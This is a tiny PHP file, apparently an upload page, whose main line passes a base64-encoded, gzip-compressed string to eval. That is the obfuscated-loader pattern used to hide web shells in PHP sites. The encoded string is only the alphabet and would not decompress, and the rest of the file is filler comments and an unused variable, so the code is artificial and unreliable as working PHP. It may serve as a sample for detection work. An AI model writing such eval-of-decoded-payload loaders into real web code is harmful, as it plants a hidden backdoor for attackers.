<?php // c
$a = "x\x41y"; eval(gzinflate(base64_decode("QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5eg=="))); # x
/* y */ ?><!-- z --><p>Upload</p>
